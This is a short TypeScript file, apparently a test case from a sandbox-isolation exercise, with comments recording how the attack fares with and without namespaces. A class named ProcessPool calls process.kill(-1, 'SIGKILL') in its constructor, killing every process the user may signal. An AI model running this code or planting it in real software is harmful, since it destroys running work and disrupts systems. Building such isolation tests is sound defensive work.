// Exercise: 07
// File: process-pool.ts
// Task: 1
// Class: ends a process
// Attack: Sends SIGKILL to every process that it may signal.
// Verdict: crash or failed
// With namespaces: stopped
// Without namespaces: wins

export class ProcessPool {
  constructor() {
    process.kill(-1, 'SIGKILL');
  }
}
